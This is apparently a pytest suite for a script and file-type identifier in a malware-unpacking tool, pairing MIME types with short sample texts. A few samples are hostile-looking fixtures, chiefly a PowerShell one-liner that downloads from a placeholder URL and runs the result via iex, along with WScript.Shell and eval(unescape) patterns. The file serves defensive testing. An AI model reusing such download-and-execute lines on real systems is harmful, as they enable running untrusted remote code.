from __future__ import annotations

import time

import pytest

from lazaretto.unpack.identify import identify
from lazaretto.unpack.language import interpreter, kind

TEXTS = {
    "text/javascript": [
        "var a = new ActiveXObject('WScript.Shell');\nWScript.Sleep(1);\n",
        "// a comment\n/* and\n another */\n(function() {\n  document.write('x');\n})();\n",
        "function f(x) {\n  return x === 1;\n}\n",
        "const x = require('fs');\nmodule.exports = x;\n",
        "try{eval(unescape('%61'));}catch(e){}",
        "#!/usr/bin/env node\n1\n",
        "'use strict'\nclass AbortError extends Error {\n  constructor (m) {\n    super(m)\n  }\n}\n",
        "export class A extends B {\n  get a() {\n    return 1;\n  }\n}\nexport default A;\n",
    ],
    "text/vbscript": [
        'Dim s\nSet s = CreateObject("WScript.Shell")\ns.Run "calc"\n',
        "' comment\nOn Error Resume Next\nSub Main()\nMsgBox \"x\"\nEnd Sub\n",
        'x = "a"\nExecute(StrReverse(x))\nSet y = GetObject("x")\n',
    ],
    "text/x-powershell": [
        "$a = New-Object Net.WebClient\n$a.DownloadString('http://x') | iex\n",
        "<#\n.SYNOPSIS\n#>\nWrite-Host 1\n",
        "param([string]$Name)\nWrite-Output $env:TEMP\n",
        "#Requires -Version 5\nGet-Item x\n",
        "Get-ChildItem x | ForEach-Object { Write-Host $_ }\n",
    ],
    "text/x-msdos-batch": [
        "@echo off\r\ncls\r\n",
        "rem what it does\r\nset x=1\r\nif exist %x% goto end\r\n:end\r\n",
        "start /b powershell -nop x\r\n%~dp0a.exe /s\r\n",
    ],
    "text/x-shellscript": ["#!/bin/sh\nls\n", "#! /bin/bash -e\n", "set -e\nif [ x ]; then\n  export A=$(b)\nfi\n"],
    "text/x-python": ["#!/usr/bin/env python3\nx\n", "# c\nimport os\n\ndef f(x):\n    return x\n",
        "#!/usr/bin/env -S python -u\n"],
    "text/x-perl": ["#!/usr/bin/perl -w\n", "use strict;\nmy $x = 1;\n"],
    "text/x-php": ["<?php echo 1; ?>", "<?php ?><html><body>x</body></html>", "<?= $x ?>"],
    "text/x-ruby": ["#!/usr/bin/ruby\n", "require 'x'\nmodule A\n  def b\n  end\nend\n"],
    "text/x-asp": ['<%@ Language="VBScript" %>\n<html>'],
    "text/x-jsp": ['<%@ page language="java" %>'],
    "text/x-applescript": ['tell application "Finder"\n  activate\nend tell\n', "do shell script \"ls\"\n"],
    "text/x-vba": ['Attribute VB_Name = "Module1"\nSub x()\nEnd Sub\n'],
    "application/hta": ["<html><HTA:APPLICATION id=x></html>", "<script>1</script><hta:application>"],
    "text/x-windows-script": [
        "<job><script language='JScript'>1</script></job>",
        "<package><job id=1><script>1</script></job></package>",
        '<?xml version="1.0"?><scriptlet><registration/></scriptlet>',
        '<?xml version="1.0"?><component><script>1</script></component>',
    ],
    "text/x-ms-regedit": ["Windows Registry Editor Version 5.00\r\n\r\n[HKEY_X]\r\n", "REGEDIT4\r\n"],
    "application/x-setupscript": ['[Version]\nSignature="$Windows NT$"\n', '[Version]\r\nsignature = $CHICAGO$\r\n'],
    "application/x-ms-autorun": ["[autorun]\nopen=x.exe\n"],
    "application/x-mswinurl": [
        "[InternetShortcut]\r\nURL=http://x\r\n",
        "[{000214A0-0000}]\r\nx=1\r\n[InternetShortcut]\r\nURL=x\r\n"],
    "application/x-desktop": ["[Desktop Entry]\nExec=x\n"],
    "application/x-ms-scf": ["[Shell]\nCommand=2\n"],
    "text/x-ini": ["[section]\n; c\nkey=value\n"],
    "application/x-sylk": ["ID;PWXL;N;E\nC;Y1\n"],
    "text/x-ms-iqy": ["WEB\r\n1\r\nhttp://x\r\n"],
    "application/json": ['{"a": 1}', '[{"a": 1}]', "[1, 2]", "{}", '["a", "b"]'],
    "text/x-diff": ["diff --git a/x b/x\n", "--- a/x\t1\n+++ b/x\t2\n@@ -1 +1 @@\n-a\n+b\n"],
    "text/x-ldif": ["dn: cn=x\nobjectClass: top\n", "version: 1\n\ndn:: eA==\nchangetype: delete\n"],
    "application/x-pem-file": ["-----BEGIN CERTIFICATE-----\nMII\n", "-----BEGIN RSA PRIVATE KEY-----\n"],
    "text/x-tex": ["\\documentclass{article}\n"],
    "text/css": ["@charset 'utf-8';", "body {\n  color: red;\n  margin: 0;\n}\n", ".a, .b:hover { color: red; }\n"],
    "application/sql": ["CREATE TABLE x (\n a int);\n", "-- dump\nINSERT INTO x VALUES (1);\n"],
    "application/x-subrip": ["1\n00:00:00,000 --> 00:00:02,000\nHello\n"],
    "text/vtt": ["WEBVTT\n\n"],
    "text/x-gettext": ['# c\nmsgid ""\nmsgstr ""\n"x"\n'],
    "text/plain": [
        "Hello,\n\nvar x = 1; is how you write it.\n",
        "Try this:\n\n@echo off\ncls\n",
        "import the file and run it.\n\nimport os\n",
        "function follows form (as they say)\n",
        "$100 = too much\n",
        "start with this: set x=1\n",
        "If (as you say) it is so, then let it be.\nReturn it;\n",
        "[Anthony Baxter]\n> a = b\n",
        "[1] first\n[2] second\n",
        "> dn: x\n",
        "{ not json }\n",
        "set the table to four\nend tell\n",
        "select one from the list.\n",
        "Class of 1999:\n- a\n",
        "# a heading\n\nText about `def x():` and more.\n",
        "ID; Price\n1;2\n",
        "From now on, import nothing.\n",
        "From: nobody\n",
        "Regards\n-- \nme\n",
    ],
}  # fmt: skip


@pytest.mark.parametrize(("expected", "text"), [(kind, text) for kind, texts in TEXTS.items() for text in texts])
def test_kinds_of_text(expected: str, text: str) -> None:
    assert identify(text.encode()) == expected
    if not text.startswith("#!"):  # which no interpreter takes in UTF-16
        assert identify(text.encode("utf-16")) == expected


def test_a_script_is_one_under_any_name_but_a_name_that_runs_decides() -> None:
    script = TEXTS["text/javascript"][0].encode()
    assert identify(script, ("invoice.csv",)) == "text/javascript"
    assert identify(script, ("invoice.vbs",)) == "text/vbscript"
    assert identify(b"import Foundation\nimport x\n", ("a.swift",)) == "text/x-swift"
    assert identify(b"<html><script>1</script>", ("a.hta",)) == "application/hta"


def test_interpreters() -> None:
    assert interpreter(b"#!/usr/bin/pwsh\n") == "text/x-powershell"
    assert interpreter(b"#!") == interpreter(b"#!\x00\xff") == "text/x-shellscript"


@pytest.mark.parametrize(
    "text",
    ["\n" * 4096, "#\n" * 2048, "[a]\n" * 1024, "var a = 1\n" + "(" * 4000, "set x=1\n" + " " * 4000, "a" * 4096,
     ". " * 2048 + "{", "a,b" * 1300 + "{", '{"' + "a" * 4000, "dn: x\n" * 600, "if (" + "\n" * 4000,
     "import a\n" + "\t" * 4000, "function f(" + " \n" * 2000, "dim a\n" + "sub " * 1000, "/*" * 2000, "[" * 4096,
     "$a = 1\n" + "[a.a" * 1000, "msgid \"\n" * 500, "#\n\n" * 1300],
)  # fmt: skip
def test_no_text_takes_long(text: str) -> None:
    started = time.process_time()
    kind(text)
    assert time.process_time() - started < 0.1
